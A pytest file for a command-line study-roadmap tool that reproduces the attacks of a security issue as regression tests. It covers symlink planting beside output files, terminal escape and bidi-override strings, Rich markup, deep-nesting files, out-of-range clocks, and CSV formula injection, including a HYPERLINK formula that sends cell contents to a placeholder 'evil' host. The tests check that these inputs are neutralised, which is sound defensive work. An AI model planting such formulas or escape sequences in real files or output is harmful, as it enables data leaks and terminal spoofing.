"""Nothing lost, nothing raw: the attacks of issue #12, each reproduced, and the variations a careful
attacker tries next. Paths, clocks, files and characters must neither lose progress nor reach the
terminal raw."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import sqlite3
import stat
import time
import tracemalloc
from pathlib import Path

import pytest

from conftest import topic_toml
from infra_roadmap import graph
from infra_roadmap.store.migrations import LATEST

RAW = ("\x1b", "\x07", "\u202e", "\x9b", "\x00")  # ESC, BEL, RLO, CSI (C1), NUL


def assert_clean(result) -> None:
    """No control character or bidi override in anything the command printed."""
    for text in (result.stdout, result.stderr):
        found = [repr(ch) for ch in RAW if ch in text]
        assert not found, (found, text[:400])


def events_of(run, *args):
    return run.json(*args, "history")


# ---- 1. the data directory is used verbatim --------------------------------------------------------


@pytest.mark.parametrize("name", ["x%41", "a?b", "c#d", "e%2Fz", "sp ace", "[x]", "学习 data", "f%00g"])
def test_a_data_dir_is_used_verbatim_whatever_its_name(run, tmp_path, name):
    folder = tmp_path / name
    assert run("--data-dir", str(folder), "log", "calc-limits", "8m").exit_code == 0
    assert (folder / "progress.db").is_file()
    assert sorted(p.name for p in tmp_path.iterdir() if p.name not in ("user", "xdg")) == [name]
    assert [e["minutes"] for e in events_of(run, "--data-dir", str(folder))] == [8]
    rows = {r["id"]: r for r in run.json("--data-dir", str(folder), "list")}
    assert rows["calc-limits-continuity"]["status"] == "in_progress"


def test_an_empty_data_dir_is_refused_not_the_current_folder(run, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    result = run("--data-dir", "", "log", "calc-limits", "8m")
    assert result.exit_code == 2 and "--data-dir is empty" in result.stderr
    assert not (tmp_path / "progress.db").exists()


@pytest.mark.parametrize("target", ["/dev/null", "file"])
def test_a_data_dir_that_is_not_a_folder_says_what_it_is(run, tmp_path, target):
    path = target if target.startswith("/") else str(tmp_path / target)
    if not target.startswith("/"):
        Path(path).write_text("x")
    result = run("--data-dir", path, "done", "os-memory")
    what = "a device" if target == "/dev/null" else "a file"
    assert result.exit_code == 1 and f"it is {what}, not a folder" in result.stderr
    assert result.stderr.count("\n") == 1


# ---- 2. files written with --output ------------------------------------------------------------


def test_a_planted_link_beside_the_output_is_never_followed(run, tmp_path):
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me")
    for name in (".week.md.tmp", ".week.md.1.tmp", "week.md.tmp"):  # the old fixed names, and guesses
        (tmp_path / name).symlink_to(victim)
    assert run("report", "--output", str(tmp_path / "week.md")).exit_code == 0
    assert victim.read_text() == "keep me"
    assert (tmp_path / "week.md").read_text().startswith("---\ntitle:")


@pytest.mark.parametrize("force", [False, True])
def test_an_output_that_is_a_link_is_refused(run, tmp_path, force):
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me")
    link = tmp_path / "week.md"
    link.symlink_to(victim)
    result = run("report", "--output", str(link), *(["--force"] if force else []))
    assert result.exit_code == 1 and "symbolic link" in result.stderr
    assert victim.read_text() == "keep me" and link.is_symlink()


def test_a_device_or_a_pipe_is_never_replaced(run, tmp_path):
    fifo = tmp_path / "pipe.md"
    os.mkfifo(fifo)
    for target in ("/dev/null", str(fifo)):
        result = run("report", "--output", target, "--force")
        assert result.exit_code == 1 and "not a regular file" in result.stderr, result.stderr
    assert stat.S_ISCHR(os.stat("/dev/null").st_mode) and stat.S_ISFIFO(os.stat(fifo).st_mode)


def test_a_full_disk_leaves_no_partial_file_and_the_old_one_intact(run, tmp_path, monkeypatch):
    target = tmp_path / "exp.json"
    target.write_text("old export")

    def full(_fd):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "fsync", full)
    result = run("export", "--output", str(target), "--force")
    assert result.exit_code == 1 and "No space left on device" in result.stderr
    assert target.read_text() == "old export"
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.endswith(".tmp")) == []


def test_output_overwrites_only_with_force_and_keeps_the_mode(run, tmp_path):
    target = tmp_path / "week.md"
    target.write_text("mine")
    target.chmod(0o600)
    refused = run("report", "--output", str(target))
    assert refused.exit_code == 1 and "--force" in refused.stderr and target.read_text() == "mine"
    assert run("report", "--output", str(target), "--force").exit_code == 0
    assert target.read_text().startswith("---") and stat.S_IMODE(target.stat().st_mode) == 0o600
    missing = run("report", "--output", str(tmp_path / "no" / "such" / "week.md"))
    assert missing.exit_code == 1 and "does not exist" in missing.stderr
    empty = run("report", "--output", "")
    assert empty.exit_code == 1 and "empty" in empty.stderr


# ---- 3. a wrong clock cannot pin a state ------------------------------------------------------


def _import(run, tmp_path, events, name="in.json"):
    path = tmp_path / name
    path.write_text(json.dumps({"version": 1, "events": events}), encoding="utf-8")
    return run("import", str(path))


def test_an_event_recorded_by_a_clock_far_ahead_does_not_pin_the_state(run, tmp_path):
    future = {
        "topic": "os-memory",
        "kind": "done",
        "at": "2026-11-01T10:00:00+00:00",
        "recorded_at": "2100-06-01T00:00:00+00:00",
        "uid": "from-a-fast-clock",
    }
    assert _import(run, tmp_path, [future]).exit_code == 0
    assert run("start", "os-memory").exit_code == 0
    assert {r["id"]: r["status"] for r in run.json("list")}["os-memory"] == "in_progress"
    assert run("reset", "os-memory").exit_code == 0
    assert {r["id"]: r["status"] for r in run.json("list")}["os-memory"] == "todo"


@pytest.mark.parametrize(
    "field, value",
    [
        ("at", "9999-12-31T23:00:00-05:00"),
        ("at", "0001-01-01T00:00:00+14:00"),
        ("at", "1999-12-31T23:59:00+00:00"),
        ("at", "2101-01-01T00:00:00+00:00"),
        ("recorded_at", "9999-01-01T00:00:00+00:00"),
    ],
)
def test_times_outside_2000_to_2100_are_refused_on_import(run, tmp_path, isolated_home, field, value):
    event = {
        "topic": "os-memory",
        "kind": "log",
        "at": "2026-11-01T10:00:00+00:00",
        "minutes": 5,
        field: value,
    }
    result = _import(run, tmp_path, [event])
    assert result.exit_code == 1 and "2000-2100" in result.stderr and result.stderr.count("\n") == 1
    assert not (isolated_home / "progress.db").exists()


@pytest.mark.parametrize("when", ["1999-12-31", "1970-01-01T00:00", "9999-12-31T23:00-05:00", "2101-01-01"])
def test_times_outside_2000_to_2100_are_refused_on_the_command_line(run, isolated_home, when):
    result = run("log", "os-memory", "5m", "--at", when)
    assert result.exit_code == 2 and result.stderr.count("\n") == 1
    assert not (isolated_home / "progress.db").exists()
    bad_exam = run("config", "set", "exam-date", when[:10])
    assert bad_exam.exit_code == 1 and "2000 to 2100" in bad_exam.stderr


# ---- 4. control characters never reach the terminal -----------------------------------------------

EVIL = "Evil\x1b[2J\x1b]0;pwned\x07 \u202eRTL\u202c \x9b31m"


def toml_text(text: str) -> str:
    """`text` as the inside of a TOML basic string, every unprintable character as \\uXXXX."""
    return "".join(ch if ch.isprintable() and ch not in '"\\' else f"\\u{ord(ch):04x}" for ch in text)


def test_overlay_text_notes_and_urls_reach_no_terminal_raw(run, overlay):
    folder = overlay(
        {
            "evil.toml": topic_toml(
                "evil-topic",
                title=toml_text(EVIL),
                title_zh="恶意\\u202e标题",
                resources=["res-evil"],
                extra=(
                    '[[topic.exam]]\npoint = "408.os.paging"\nweight = 3\nwhy = "A why with \\u001b[31m red and \\u202e flip."\n'
                ),
            ).replace(
                'summary = "A topic written by a test."',
                'summary = "A summary \\u001b]0;x\\u0007 that retitles."',
            )
            + '[[resource]]\nid = "res-evil"\nkind = "docs"\ntitle = "Docs \\u001b[5m blink"\n'
            'url = "https://example.com/ok"\n'
        }
    )
    assert run("--roadmap", str(folder), "validate").exit_code == 0
    assert run("--roadmap", str(folder), "log", "evil-topic", "5m", "--note", EVIL).exit_code == 0
    for args in (
        ["show", "evil-topic"],
        ["list", "--layer", "paas"],
        ["tree", "--layer", "paas"],
        ["search", "evil"],
        ["next", "-n", "200"],
        ["history"],
        ["status"],
        ["report"],
        ["report", "--format", "csv"],
        ["report", "--format", "html"],
        ["graph", "--layer", "paas"],
        ["graph", "--format", "dot"],
        ["log", "evil-topic", "1m", "--note", EVIL],
        ["undo"],
        ["doctor"],
    ):
        result = run("--roadmap", str(folder), *args)
        assert result.exit_code == 0, (args, result.stderr)
        assert_clean(result)
    listing = run("--roadmap", str(folder), "list", "--layer", "paas").stdout
    assert sum("evil-topic" in line for line in listing.splitlines()) == 1  # one row, not broken


def test_a_url_with_control_characters_is_refused_by_validate(run, overlay):
    folder = overlay(
        {
            "bad.toml": '[[resource]]\nid = "res-bel"\nkind = "docs"\ntitle = "Bell"\n'
            'url = "https://example.com/\\u0007\\u001b]0;x"\n'
        }
    )
    result = run("validate", str(folder), "--json")
    assert result.exit_code == 1 and "control" in result.stdout


@pytest.mark.parametrize("topic", ["os\x1b[2Jmemory", "bad\u202eid", "nl\nid", "x" * 300])
def test_imported_ids_with_control_characters_are_refused(run, tmp_path, isolated_home, topic):
    result = _import(
        run, tmp_path, [{"topic": topic, "kind": "log", "at": "2026-11-01T10:00:00+00:00", "minutes": 5}]
    )
    assert result.exit_code == 1 and result.stderr.count("\n") == 1
    assert_clean(result)
    assert not (isolated_home / "progress.db").exists()


def test_json_output_keeps_notes_exact_and_escapes_what_a_terminal_would_act_on(run):
    assert run("log", "os-memory", "5m", "--note", EVIL).exit_code == 0
    result = run("history", "--json")
    assert_clean(result)
    assert json.loads(result.stdout)[0]["note"] == EVIL


# ---- 5. CSV cells cannot run as formulas ---------------------------------------------------------


@pytest.mark.parametrize(
    "note", ['=HYPERLINK("http://evil/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
)
def test_csv_cells_that_look_like_formulas_are_neutralised(run, note):
    assert run("log", "os-memory", "5m", "--note", note).exit_code == 0
    rows = list(csv.DictReader(io.StringIO(run("report", "--format", "csv").stdout, newline="")))
    cell = rows[0]["note"]
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert cell in ("'" + note, note.lstrip("\r"))  # neutralised, or its leading CR dropped as unsafe


# ---- 6. paths with Rich markup ---------------------------------------------------------------------


@pytest.mark.parametrize("name", ["[/]week.md", "[bold]x.md", "[link=http://x]y.md"])
def test_paths_with_markup_are_written_and_named_exactly(run, tmp_path, name):
    folder = tmp_path / "out"
    target = folder / name
    target.parent.mkdir(parents=True)  # 'out/[/]week.md' is the file ']week.md' in the folder 'out/['
    folder = target.parent
    result = run("report", "--output", str(target))
    assert result.exit_code == 0, result.stderr
    assert target.is_file() and str(target) in result.stderr
    exported = target.with_suffix(".json")
    assert run("export", "--output", str(exported)).exit_code == 0
    first = run("import", str(exported))
    assert first.exit_code == 0 and str(exported) in first.stderr


# ---- 7. unlock counts in linear memory ---------------------------------------------------------------


def test_unlock_counts_of_a_long_chain_take_linear_memory():
    n = 20_000
    requires = {f"t{i}": [f"t{i - 1}"] if i else [] for i in range(n)}
    unlocks = graph.unlocked_by(requires)
    order = graph.topological_order(requires)
    tracemalloc.start()
    counts = graph.descendant_counts(unlocks, requires, order)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert counts["t0"] == n - 1 and counts[f"t{n - 1}"] == 0
    assert peak < 40 * 2**20, peak  # the bitset-per-topic version held 166 MB here


# ---- 8. far times and odd zones ------------------------------------------------------------------------


def test_an_odd_posix_zone_does_not_break_reports_or_logging(run, local_tz):
    local_tz("XXX-24:59")
    for args in (
        ["log", "os-memory", "5m", "--at", "today"],
        ["report", "--format", "json"],
        ["status"],
        ["history"],
    ):
        result = run(*args)
        assert result.exit_code == 0, (args, result.stderr)


def test_a_far_event_already_in_an_old_database_does_not_break_reading(run, isolated_home, local_tz):
    assert run("log", "os-memory", "5m").exit_code == 0
    conn = sqlite3.connect(isolated_home / "progress.db")
    conn.execute(
        "INSERT INTO event (uid, topic, kind, at, recorded_at, minutes, note, batch) VALUES "
        "('far', 'os-memory', 'log', '9999-12-31T23:00:00.000000+00:00', "
        "'9999-12-31T23:00:00.000000+00:00', 5, NULL, 'far')"
    )
    conn.commit()
    conn.close()
    local_tz("Asia/Tokyo")
    for args in (["status"], ["history"], ["list"], ["report"]):
        assert run(*args).exit_code == 0, args
    doctor = run("doctor", "--json")
    assert doctor.exit_code == 1 and any(
        "outside 2000-2100" in p for p in json.loads(doctor.stdout)["problems"]
    )


# ---- 9. deep nesting ---------------------------------------------------------------------------------


def test_deeply_nested_files_are_named_not_crashed_on(run, overlay, tmp_path):
    deep = 50_000
    folder = overlay({"deep.toml": "x = " + "[" * deep + "]" * deep + "\n"})
    result = run("validate", str(folder))
    assert result.exit_code == 1 and "deep.toml" in result.stdout and "Traceback" not in result.stderr
    nested = tmp_path / "deep.json"
    nested.write_text('{"events": ' + "[" * deep + "]" * deep + "}")
    imported = run("import", str(nested))
    assert (
        imported.exit_code == 1 and "nested too deeply" in imported.stderr and str(nested) in imported.stderr
    )


# ---- 10. backups before a migration --------------------------------------------------------------


def _v1_database(home: Path) -> Path:
    home.mkdir(parents=True, exist_ok=True)
    db = home / "progress.db"
    conn = sqlite3.connect(db)
    conn.executescript((Path(__file__).parent / "fixtures" / "schema_v1.sql").read_text(encoding="utf-8"))
    conn.close()
    return db


def test_a_backup_that_cannot_be_made_stops_the_migration_and_leaves_nothing(run, isolated_home, monkeypatch):
    db = _v1_database(isolated_home)
    before = db.read_bytes()
    from infra_roadmap.store import migrate

    real_backup = migrate.backup
    monkeypatch.setattr(
        migrate,
        "backup",
        lambda path, version: (_ for _ in ()).throw(
            migrate.StoreError("cannot back up: No space left on device; nothing was changed")
        ),
    )
    result = run("log", "os-memory", "5m")
    assert result.exit_code == 1 and "back up" in result.stderr
    assert db.read_bytes() == before and not list(isolated_home.glob("*.bak"))
    monkeypatch.setattr(migrate, "backup", real_backup)
    assert run("log", "os-memory", "5m").exit_code == 0
    assert [p.name for p in isolated_home.glob("*.bak")] == ["progress.db.v1.bak"]


def test_a_backup_is_verified_and_not_piled_up(isolated_home):
    from infra_roadmap.store import migrate

    db = _v1_database(isolated_home)
    first = migrate.backup(db, 1)
    stamp = first.stat().st_mtime_ns
    time.sleep(0.01)
    assert migrate.backup(db, 1) == first and first.stat().st_mtime_ns == stamp  # kept, not copied again
    first.write_bytes(b"not a database")  # a damaged backup is replaced by a good one
    migrate.backup(db, 1)
    conn = sqlite3.connect(first)
    assert conn.execute("SELECT COUNT(*) FROM event").fetchone() == (4,)
    assert [p.name for p in isolated_home.iterdir() if p.name.endswith(".tmp")] == []


# ---- 11. a restored copy is shown as itself ------------------------------------------------------


def test_a_copy_restored_over_the_database_is_read_as_the_copy(run, tmp_path, isolated_home):
    other = tmp_path / "other"
    assert run("--data-dir", str(other), "done", "ds-basics").exit_code == 0
    assert run("done", "os-memory").exit_code == 0
    assert {r["id"]: r["status"] for r in run.json("list")}["os-memory"] == "done"  # the states are cached
    db = isolated_home / "progress.db"
    for extra in ("-wal", "-shm"):
        Path(f"{db}{extra}").unlink(missing_ok=True)
    inode = db.stat().st_ino
    shutil.copyfile(other / "progress.db", db)  # `cp B progress.db`: the same inode, other bytes
    assert db.stat().st_ino == inode
    statuses = {r["id"]: r["status"] for r in run.json("list")}
    assert statuses["os-memory"] == "todo" and statuses["ds-basics"] == "done"
    assert [e["topic"] for e in run.json("history")] == ["ds-basics"]


# ---- 12. the smaller ones -------------------------------------------------------------------------------


def test_a_fifo_named_toml_does_not_hang_the_loader(run, overlay):
    folder = overlay({"ok.toml": topic_toml("fifo-neighbour")})
    os.mkfifo(folder / "trap.toml")
    result = run("--roadmap", str(folder), "show", "fifo-neighbour", "--json")
    assert result.exit_code == 0


def test_a_folder_far_too_big_for_a_roadmap_is_refused_quickly(run, tmp_path, monkeypatch):
    from infra_roadmap.content import files

    monkeypatch.setattr(files, "MAX_FOLDERS", 20)
    for i in range(25):
        (tmp_path / "disk" / f"d{i}").mkdir(parents=True)
    result = run("--roadmap", str(tmp_path / "disk"), "list")
    assert result.exit_code == 1 and "not a roadmap folder" in result.stderr


def test_a_byte_order_mark_is_not_a_syntax_error(run, overlay):
    folder = overlay({})
    folder.mkdir(exist_ok=True)
    (folder / "bom.toml").write_bytes("\ufeff".encode() + topic_toml("bom-topic").encode())
    assert run("--roadmap", str(folder), "show", "bom-topic", "--json").exit_code == 0


def test_doctor_on_a_damaged_file_says_what_it_knows(run, isolated_home):
    isolated_home.mkdir()
    (isolated_home / "progress.db").write_bytes(os.urandom(8192))
    result = run("doctor")
    assert result.exit_code == 1 and "vNone" not in result.stdout and ": None" not in result.stdout
    assert "cannot be read" in result.stdout and "restore" in result.stdout


def test_doctor_fix_upgrades_an_old_schema_and_removes_leftovers(run, isolated_home):
    _v1_database(isolated_home)
    (isolated_home / ".progress.db.v1.bak.123.tmp").write_bytes(b"half")
    report = run.json("doctor", "--fix")
    assert report["ok"] and report["schema_version"] == LATEST
    assert any("upgraded" in r for r in report["repaired"]) and any(
        "leftover" in r for r in report["repaired"]
    )
    assert [p.name for p in isolated_home.glob("*.tmp")] == [] and report["backups"] == ["progress.db.v1.bak"]


def test_a_database_locked_too_long_says_so_and_writes_nothing(run, isolated_home, monkeypatch):
    from infra_roadmap.store import connection

    assert run("log", "os-memory", "5m").exit_code == 0
    monkeypatch.setattr(connection, "BUSY_TIMEOUT_MS", 200)
    holder = sqlite3.connect(isolated_home / "progress.db", isolation_level=None)
    holder.execute("BEGIN EXCLUSIVE")
    try:
        result = run("log", "os-memory", "5m")
    finally:
        holder.execute("ROLLBACK")
        holder.close()
    assert result.exit_code == 1 and "locked by another roadmap process" in result.stderr
    assert len(run.json("history")) == 1


def test_terminal_tables_print_only_the_header_bold(monkeypatch):
    from rich.console import Console

    from infra_roadmap.render import console, table

    recorder = Console(force_terminal=True, color_system="standard", no_color=False, width=100, record=True)
    monkeypatch.setattr(console, "_out", recorder)
    table.table(
        [table.Column("id"), table.Column("title", flex=True)], [["a-topic", "First"], ["b-topic", "Second"]]
    )
    styled = recorder.export_text(styles=True)
    rows = styled.splitlines()
    assert "\x1b[1m" in rows[0] and not any("\x1b[1m" in row for row in rows[1:])


# ---- what held before and must keep holding --------------------------------------------------------


def test_rich_markup_in_user_text_is_never_interpreted(run):
    note = "[bold red]not bold[/] [link=https://evil]x[/link]"
    assert run("log", "os-memory", "5m", "--note", note).exit_code == 0
    assert note in run("history").stdout
    result = run("done", "os-memory", "--note", note)
    assert result.exit_code == 0 and "[/]" not in result.stderr  # the message names the topic, not the note
    assert run.json("history")[-1]["note"] == note


def test_an_import_killed_midway_is_all_or_nothing(tmp_path):
    import signal
    import subprocess
    import sys

    events = [
        {
            "topic": "os-memory",
            "kind": "log",
            "at": f"2026-10-{1 + i % 28:02d}T10:00:00+00:00",
            "minutes": 5,
            "uid": f"kill-{i}",
        }
        for i in range(20_000)
    ]
    doc = tmp_path / "big.json"
    doc.write_text(json.dumps({"version": 1, "events": events}))

    def start(home: Path) -> subprocess.Popen:
        env = {**os.environ, "INFRA_ROADMAP_HOME": str(home)}
        return subprocess.Popen(
            [sys.executable, "-m", "infra_roadmap", "import", str(doc)],
            env=env,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )

    began = time.monotonic()
    assert start(tmp_path / "whole").wait(60) == 0
    whole = time.monotonic() - began
    for share in (0.6, 0.8, 0.9):  # killed while it parses, while it writes, while it commits
        home = tmp_path / f"killed-{share}"
        proc = start(home)
        time.sleep(whole * share)
        proc.send_signal(signal.SIGKILL)
        proc.wait(30)
        if (home / "progress.db").exists():
            conn = sqlite3.connect(home / "progress.db")
            has_events = conn.execute("SELECT name FROM sqlite_master WHERE name = 'event'").fetchone()
            (count,) = conn.execute("SELECT COUNT(*) FROM event").fetchone() if has_events else (0,)
            assert count in (0, len(events)), count
            assert conn.execute("PRAGMA integrity_check").fetchone() == ("ok",)
            conn.close()


def test_an_export_saved_with_a_byte_order_mark_imports(run, tmp_path):
    """Windows Notepad saves UTF-8 with a BOM; the file is still the export."""
    doc = {
        "version": 2,
        "events": [{"topic": "os-memory", "kind": "log", "at": "2026-11-01T10:00:00+00:00", "minutes": 5}],
    }
    path = tmp_path / "bom.json"
    path.write_bytes(b"\xef\xbb\xbf" + json.dumps(doc).encode())
    assert run("import", str(path)).exit_code == 0
    assert [e["minutes"] for e in run.json("history")] == [5]


def test_undo_of_an_id_beyond_any_row_says_there_is_no_such_event(run):
    assert run("log", "os-memory", "1m").exit_code == 0
    for huge in ("99999999999999999999999", str(2**63)):
        result = run("undo", huge)
        assert result.exit_code == 1 and "no event" in result.stderr and "internal" not in result.stderr


def test_a_clock_over_a_day_is_never_one_entry_and_the_export_imports_back(run, tmp_path, monkeypatch):
    from datetime import datetime, timedelta

    started = (datetime.now() - timedelta(hours=30)).strftime("%Y-%m-%dT%H:%M")
    assert run("start", "os-memory", "--at", started).exit_code == 0
    forced = run("stop", "--force")
    assert forced.exit_code == 1 and "more than a day" in forced.stderr
    assert run.json("status")["clock"] is not None  # nothing written: the clock still runs
    until = (datetime.now() - timedelta(hours=22)).strftime("%Y-%m-%dT%H:%M")
    assert run("stop", "--at", until).exit_code == 0
    out = tmp_path / "e.json"
    assert run("export", "--output", str(out)).exit_code == 0
    monkeypatch.setenv("INFRA_ROADMAP_HOME", str(tmp_path / "elsewhere"))
    assert run("import", str(out)).exit_code == 0
    assert sum(e["minutes"] for e in run.json("history")) == 8 * 60


def test_a_clock_from_the_future_says_so_and_cancel_drops_it(run, tmp_path):
    doc = {
        "version": 2,
        "events": [{"topic": "os-memory", "kind": "clock", "at": "2099-12-01T10:00:00+00:00", "minutes": 0}],
    }
    assert _import(run, tmp_path, doc["events"]).exit_code == 0
    stop = run("stop")
    assert stop.exit_code == 1 and "in the future" in stop.stderr and "roadmap cancel" in stop.stderr
    assert run("cancel").exit_code == 0 and run.json("status")["clock"] is None


def test_calendar_and_json_files_hold_no_raw_control_or_bidi_characters(run, overlay, tmp_path):
    evil = toml_text("Evil \x1b[2J\x1b]0;PWNED\x07\u202e|x\x9b2J\u2066\u200f\x00Z")
    folder = overlay({"evil.toml": topic_toml("evil-topic", title=evil, title_zh=evil)})
    assert run("--roadmap", str(folder), "start", "evil-topic", "--no-clock").exit_code == 0
    assert run("--roadmap", str(folder), "log", "evil-topic", "5m", "--note", "a\u202eb\x7f").exit_code == 0
    ics, report = tmp_path / "p.ics", tmp_path / "r.json"
    assert run("--roadmap", str(folder), "plan", "-f", "ics", "-o", str(ics)).exit_code == 0
    assert run("--roadmap", str(folder), "report", "-f", "json", "-o", str(report)).exit_code == 0
    raw = set("\x1b\x07\x00\x9b\x7f\u202e\u2066\u200f")
    for path in (ics, report):
        text = path.read_text(encoding="utf-8")
        assert "Evil" in text and not raw & set(text), path.name
    assert json.loads(report.read_text(encoding="utf-8"))  # still JSON, the characters escaped
